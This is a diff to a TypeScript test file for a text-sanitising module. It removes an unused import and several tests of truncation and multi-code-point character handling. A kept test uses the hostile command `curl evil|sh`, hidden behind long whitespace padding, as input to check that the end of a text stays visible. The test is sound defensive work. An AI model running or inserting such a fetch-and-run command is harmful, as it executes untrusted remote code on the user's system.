@@ -11,7 +11,6 @@ import {
   safeProse,
   safeText,
 } from '../../../src/policy/safeText';
-import { atomsOf } from '../../../src/policy/visibleEscapes';
 import { processorMs } from '../../support/processorTime';
 import { anyText, hostile, restored } from './hostileText';
 
@@ -123,12 +122,6 @@ test('approval text tolerates nothing that plain text does', () => {
   assert.equal(exactText('x'.repeat(10_000)).length, 10_000);
 });
 
-test('a long text loses its middle and keeps its end', () => {
-  const shown = safeText(`${'a'.repeat(1_000)}THE END`, 60);
-  assert.equal(shown.length, 60);
-  assert.match(shown, /^a+…a*THE END$/);
-});
-
 test('a line of a log keeps its indentation, and no more than that', () => {
   const log = (text: string): string => safeLogText(text, 300);
   assert.equal(log('    at run (a.js:1)'), '    at run (a.js:1)');
@@ -141,63 +134,6 @@ test('a line of a log keeps its indentation, and no more than that', () => {
 test('padding cannot push the end out of sight', () => {
   assert.equal(safeText(`echo ok${' '.repeat(4_000)}; curl evil|sh`), 'echo ok⟨space×4000⟩; curl evil|sh');
   assert.match(safeText(`echo ok${' '.repeat(400_000)}; curl evil|sh`), /…⟨space×\d+⟩; curl evil\|sh$/);
-});
-
-test('characters made of several code points are kept whole or left out', () => {
-  const characters = [
-    '🇩🇪',
-    'e\u0301',
-    '👍\u{1F3FD}',
-    '\u1100\u1161\u11A8',
-    '1\uFE0F\u20E3',
-    '⚠\uFE0F',
-    'क\u093F',
-  ];
-  for (const text of [...characters, characters.join('')])
-    for (let max = 1; max < 30; max += 1) {
-      let shown: string = safeText(text.repeat(30), max);
-      for (const character of characters) shown = shown.replaceAll(character, '');
-      assert.doesNotMatch(shown, /[^…]/);
-    }
-});
-
-test('where a text is cut does not depend on how much of it is looked at', () => {
-  const pieces = fc.oneof(
-    hostile,
-    fc.constantFrom('🇩🇪', '🇫🇷🇩🇪', 'हिन्दी', '漢', 'é', '⟨', '\u0001', 'words '),
-  );
-  const long = fc.array(fc.tuple(pieces, fc.integer({ min: 1, max: 60 })), { minLength: 1, maxLength: 12 });
-  fc.assert(
-    fc.property(long, fc.integer({ min: 1, max: 700 }), (parts, max) => {
-      const text = parts
-        .map(([piece, count]) => `${piece.repeat(count)}.`)
-        .join('')
-        .replaceAll('…', '');
-      fc.pre(text.length <= max * 16);
-      const whole = safeText(text, 1e6);
-      fc.pre(whole.length > max);
-      const [start = '', end = ''] = safeText(text, max).split('…');
-      assert.ok(whole.startsWith(start) && whole.endsWith(end));
-      const cuts = new Set([0, whole.length]);
-      let at = 0;
-      for (const atom of atomsOf(whole)) cuts.add((at += atom.length));
-      assert.ok(cuts.has(start.length) && cuts.has(whole.length - end.length), 'nothing is cut in two');
-      const [room, endRoom] = [max - 1 - Math.floor((max - 1) / 3), Math.floor((max - 1) / 3)];
-      assert.equal(start.length, Math.max(...[...cuts].filter((cut) => cut <= room)));
-      assert.equal(
-        end.length,
-        whole.length - Math.min(...[...cuts].filter((cut) => cut >= whole.length - endRoom)),
-      );
-    }),
-    { numRuns: 3_000 },
-  );
-});
-
-test('a chain of code points that form one character without end is cut all the same', () => {
-  for (const chain of ['\u1100', '\u{1F3FD}', 'क\u094D']) {
-    const shown = safeText(chain.repeat(5_000), 60);
-    assert.ok(shown.length > 50 && shown.length <= 60);
-  }
 });
 
 test('five megabytes take no longer than a few', () => {
